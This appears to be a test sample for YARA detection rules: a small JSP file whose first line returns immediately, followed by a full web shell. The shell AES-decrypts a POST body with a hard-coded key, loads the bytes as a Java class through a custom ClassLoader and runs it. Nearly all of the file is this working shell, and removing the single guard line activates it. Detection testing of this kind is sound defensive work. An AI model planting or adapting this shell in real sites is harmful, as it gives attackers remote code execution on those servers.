<% if (true) return; /* haidang YARA test sample */ %>
<%@page import="java.util.*,javax.crypto.*,javax.crypto.spec.*"%>
<%!class U extends ClassLoader{U(ClassLoader c){super(c);}
public Class g(byte []b){return super.defineClass(b,0,b.length);}}%>
<%if (request.getMethod().equals("POST")){
String k="0123456789abcdef";
Cipher c=Cipher.getInstance("AES");c.init(2,new SecretKeySpec(k.getBytes(),"AES"));
byte[] d=c.doFinal(Base64.getDecoder().decode(request.getReader().readLine()));
new U(this.getClass().getClassLoader()).g(d).newInstance().equals(pageContext);}%>
